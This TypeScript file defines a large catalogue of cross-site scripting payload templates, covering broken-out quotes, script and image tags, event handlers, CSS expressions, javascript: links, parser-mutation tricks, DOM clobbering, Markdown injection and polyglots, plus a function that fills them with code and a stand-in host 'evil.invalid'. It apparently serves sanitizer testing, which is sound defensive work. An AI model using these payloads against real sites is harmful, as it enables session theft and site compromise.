/** Forms that the well-known lists of payloads have, each written anew: `J` is code, `U` an address that runs it, `H` another host. */

const FORMS: readonly string[] = [
  // Quotes and signs that end what they stand in.
  ...["'';!--\"<q>=&{()}", '"><script>J</script>', "'><script>J</script>", "</script><script>J</script>"],
  ...['\\";J;//', "';J;'", '");J;("', "--></script><script>J</script><!--", "*/J/*", "`-J-`"],
  ...["</title><script>J</script>", "</textarea><script>J</script>", "</style><script>J</script>"],
  ...['<!--<img src="--><img src=x onerror=J//">', '<comment><img src="</comment><img src=x onerror=J//">'],
  ...['<![><img src="]><img src=x onerror=J//">', '<style><img src="</style><img src=x onerror=J//">'],
  ...[
    '<x title="</x><img src=x onerror=J>">',
    "<a title='<img src=x onerror=J>'>x",
    "<%<script>J</script>%>",
  ],
  // Scripts, dressed.
  ...[
    "<script/x>J</script>",
    "<script\t\n>J</script\t\n>",
    "<script>J</script",
    "<script>J",
    "<script>J<!--",
  ],
  ...[
    "<script>J//</script>-->",
    "<script src=H",
    "<script/src=H></script>",
    "<script src='H' x='>'></script>",
  ],
  ...['<script x=">" src="H"></script>', "<script x=`>` src=H></script>", "<script x='>'>J</script>"],
  ...["<script>x='<!--<script>';J</script>", "<script\0>J</script\0>", "<\0script>J</\0script>"],
  ...["<script type=text/vbscript>J</script>", "<script language=jscript>J</script>", "<script async src=H>"],
  ...["<script nomodule>J</script>", '<script type=importmap>{"imports":{"x":"U"}}</script>'],
  ...[
    "<scr\0ipt>J</scr\0ipt>",
    "<scr<script>ipt>J</scr</script>ipt>",
    "<<script>J//<</script>",
    "<script ~~~>J</script ~~~>",
  ],
  ...[
    "<script x>J</script x>",
    "<script>\\u005f\\u005fx(N)</script>",
    "<script>eval('J')</script>",
    "<SCRIPT SRC=H?<B>",
  ],
  // Images.
  ...['<img src="U">', "<img src=U>", "<IMG SRC=`U`>", "<img src='U'", '<img """><script>J</script>">'],
  ...[
    '<img dynsrc="U">',
    '<img lowsrc="U">',
    "<img src=x:x onerror=J>",
    "<img/src/onerror=J>",
    "<img src onerror=J>",
  ],
  ...[
    "<img src=x onerror\n=\nJ>",
    "<img src=x OnErRoR=J>",
    '<img src=x onerror="J"/>',
    "<img src=x onerror=&#x5f;&#x5f;x(N)>",
  ],
  ...[
    "<img src='x' onerror='J' <b>",
    '<img src="x` `<script>J</script>"` `>',
    "<img src=x onerror=J//",
    "<img\rsrc=x\ronerror=J>",
  ],
  ...[
    '<img src="x\\" onerror=J \\">',
    "<img src=x onload=J onerror=J>",
    "<image src=x onerror=J>",
    "<img style=xss:expression(J)>",
  ],
  ...[
    '<img usemap="U">',
    '<img longdesc="U" src=x>',
    "<img src=x loading=lazy onerror=J>",
    "<img srcset=x onerror=J>",
  ],
  // Handlers without a gesture.
  ...[
    "<svg onload=J>",
    "<svg/onload=J>",
    "<svg\nonload\n=J>",
    "<svg onload=J//",
    "<svg><g onload=J></g></svg>",
  ],
  ...[
    "<body onload=J>",
    '<body background="U">',
    "<body onhashchange=J>",
    "<body onpageshow=J>",
    "<body onscroll=J><br id=x>",
  ],
  ...[
    "<iframe onload=J>",
    '<iframe src="U">',
    '<iframe/src="U"></iframe>',
    "<iframe srcdoc=<script>J</script>>",
  ],
  ...[
    "<iframe srcdoc='<svg onload=parent.J>'>",
    "<iframe name=J src=x>",
    "<iframe src=H <",
    '<frameset><frame src="U"></frameset>',
  ],
  ...[
    "<input onfocus=J autofocus>",
    "<input onblur=J autofocus><input autofocus>",
    '<input type=image src="U">',
  ],
  ...[
    "<input type=image src=x onerror=J>",
    "<keygen autofocus onfocus=J>",
    "<textarea onfocus=J autofocus>",
    "<isindex action=U type=image>",
  ],
  ...[
    "<video src=x onerror=J>",
    "<video><source onerror=J>",
    "<video poster=U></video>",
    "<audio src=x onerror=J>",
  ],
  ...[
    "<details open ontoggle=J>",
    "<marquee onstart=J>",
    "<marquee loop=1 width=0 onfinish=J>",
    "<meter onmouseover=J>0</meter>",
  ],
  ...[
    '<object data="U">',
    "<object type=text/x-scriptlet data=H></object>",
    '<object><param name=src value="U"></object>',
  ],
  ...[
    '<embed src="U">',
    "<embed src=H allowscriptaccess=always>",
    "<embed code=H>",
    "<applet archive=H code=x></applet>",
  ],
  ...[
    "<style onload=J></style>",
    "<link rel=stylesheet href=x onerror=J>",
    "<link rel=prefetch href=H>",
    '<link rel=stylesheet href="U">',
  ],
  // Styles.
  ...[
    "<style>@import'H';</style>",
    '<style>li{list-style-image:url("U")}</style><ul><li>x</ul>',
    "<style>*{x:expression(J)}</style>",
  ],
  ...[
    '<div style="background-image:url(U)">x</div>',
    '<div style="width:expression(J);">x</div>',
    "<p style=-moz-binding:url(H)>x</p>",
  ],
  ...[
    '<div style="background:\\0075\\0072\\006c(H)">x</div>',
    "<style>@\\69mport 'H'</style>",
    '<x style="x:expr/*x*/ession(J)">',
  ],
  ...[
    "<style><!--</style><script>J//--></script>",
    "<style/><img src=x onerror=J>",
    '<div style="behaviour: url(H)">x</div>',
  ],
  // Addresses, and where they may stand.
  ...[
    '<a href="U">x</a>',
    "<a href=U>x</a>",
    '<a href=" U">x</a>',
    '<a href="&#14; U">x</a>',
    "<a href=java&#1&#2script:J>x</a>",
  ],
  ...[
    '<a href="jav&#x09;ascript:J">x</a>',
    '<a href="jav&#x0A;ascript:J">x</a>',
    '<a href="jav\tascript:J">x</a>',
  ],
  ...[
    '<a href="javascript&colon;J">x</a>',
    '<a href="javascript&#x3A;J">x</a>',
    "<a href=j&#97v&#97script&#x3A;J>x</a>",
  ],
  ...[
    '<a href="data:text/html,<script>parent.J</script>">x</a>',
    "<a href='vbscript:J'>x</a>",
    "<a href=//H>x</a>",
    '<a href="\\\\H">x</a>',
  ],
  ...[
    "<a onclick=J href=#>x</a>",
    '<a onpointerover="J">x</a>',
    "<a href=x onfocus=J autofocus tabindex=1>x</a>",
    '<a href="U" target=_self>x',
  ],
  ...[
    '<area shape=rect coords=0,0,9,9 href="U">',
    '<base href="U//">',
    "<base target=x>",
    '<bgsound src="U">',
    '<br size="&{J}">',
  ],
  ...[
    '<table background="U"><td background="U">x</table>',
    "<layer src=H></layer>",
    "<form action=U><input type=submit>",
  ],
  ...[
    "<form><button formaction=U>x",
    "<form id=x></form><button form=x formaction=U>x</button>",
    "<isindex formaction=U type=submit>",
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=U">',
    '<meta http-equiv=refresh content="0; URL=http:;URL=U">',
    "<meta charset=utf-7>+ADw-script+AD4-J+ADw-/script+AD4-",
  ],
  // Trees that a parser builds anew.
  ...[
    '<svg></p><style><a title="</style><img src=x onerror=J>">',
    '<math></p><style><!--</style><img title="--&gt;&lt;img src=x onerror=J&gt;">',
  ],
  ...[
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=J>",
    "<math><mtext><table><mglyph><style><math><img src=x onerror=J>",
  ],
  ...[
    '<svg><p><style><g title="</style><img src=x onerror=J>"></g></style></p></svg>',
    "<noscript><style></noscript><img src=x onerror=J></style>",
  ],
  ...[
    "<select><template><img src=x onerror=J></template></select>",
    "<table><caption><svg><title><table><img src=x onerror=J>",
    '<p><svg><desc><p title="</desc><img src=x onerror=J>">',
  ],
  ...[
    "<math><annotation-xml encoding=text/html><img src=x onerror=J></annotation-xml></math>",
    "<svg><annotation-xml><foreignObject><img src=x onerror=J>",
  ],
  ...[
    "<x><!--><img src=x onerror=J>--></x>",
    "<?<img src=x onerror=J>?>",
    "<!<img src=x onerror=J>>",
    "</<img src=x onerror=J>>",
    "</ <img src=x onerror=J>>",
  ],
  ...[
    '<a><table><tr><a href="U">x</a></table></a>',
    "<p><table><form><p><img src=x onerror=J></form></table>",
    "<b><table><b><img src=x onerror=J></table>",
  ],
  ...[
    "<title><style></title><img src=x onerror=J></style>",
    '<xmp><p title="</xmp><svg/onload=J>">',
    '<noembed><img title="</noembed><img src=x onerror=J>">',
  ],
  ...[
    '<iframe><img title="</iframe><img src=x onerror=J>">',
    "<plaintext><img src=x onerror=J>",
    "<listing>&lt;img src=x onerror=J&gt;</listing>",
    '<frameset><noframes><img title="</noframes><img src=x onerror=J>">',
  ],
  // Names that shadow.
  ...[
    "<form name=body><input name=firstChild></form>",
    "<img name=getElementById><img name=currentScript>",
    '<a id=location href="U">x</a><a id=location name=href>',
  ],
  ...[
    "<form id=document><input name=cookie><input name=forms></form>",
    "<x id=__proto__></x><x id=constructor></x>",
    "<img id=x name=querySelector src=a.png>",
  ],
  // Markdown's own.
  ...[
    "[x](U)",
    "[x]( U )",
    "[x](<U>)",
    "[x](java\\\nscript:J)",
    "[x](javascript&colon;J)",
    "[x](&#x6A;avascript:J)",
    "[x](JaVaScRiPt:J)",
  ],
  ...[
    "![x](U)",
    '![x](x"onerror="J)',
    '![x](H/"onerror="J)',
    '![x"onerror="J](a.png)',
    '![x](a.png "x\\" onerror=J \\"")',
    "![x](data:image/svg+xml,<svg/onload=J>)",
  ],
  ...[
    "<U>",
    "<JAVASCRIPT:J>",
    "<data:text/html,x>",
    '<mailto:x@y.z?"onclick=J>',
    'https://H/"onclick="J',
    "www.H/'><script>J</script>",
    "[x]: U\n\n[x]",
    "[x]:U 'y'\n[x][]",
  ],
  ...[
    "[<img src=x onerror=J>](a.md)",
    "[x](a.md '\"onclick=\"J')",
    "[![x](U)](U)",
    "[x](\u0001U)",
    '[x](#"onclick="J)',
    '[x](?"><script>J</script>)',
    '``` "><img src=x onerror=J>\nx\n```',
  ],
  ...[
    "# x {onclick=J}",
    '# <img src=x onerror=J> {#"onclick=J}',
    'x[^"><img src=x onerror=J>]\n\n[^"><img src=x onerror=J>]: U',
    "`<img src=x onerror=J>`",
    "| <script>J</script> |\n|---|\n| U |",
  ],
  ...[
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "_<b onclick=J>_*</b>*",
    "**<a href=U>**x</a>",
    "&lt;script&gt;J&lt;/script&gt;",
    "\\<script>J\\</script>",
    "[x](feed:U)",
    "[x](view-source:U)",
  ],
  // One for many places at once.
  ...[
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=J )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=J//>\\x3e",
  ],
  ...[
    "'\"--></style></script></title></textarea></xmp><svg onload=J>",
    "x\"onfocus=J autofocus id='x'onfocus=J autofocus `><img src=x onerror=J>",
    "]]>--></x>\"'><script src=H></script>",
  ],
];

export const CLASSIC_FORMS = FORMS;

export function fillForm(
  form: string,
  { number, code }: { readonly number: number; readonly code: string },
): string {
  const parts: Readonly<Record<string, string>> = {
    U: `javascript:${code}`,
    J: code,
    H: `//evil.invalid/${number}`,
    N: String(number),
  };
  // Letters that stand alone: those of names and words stay.
  return form.replace(/(?<![A-Za-z])[UJHN](?![A-Za-z])/g, (sign) => parts[sign] ?? sign);
}
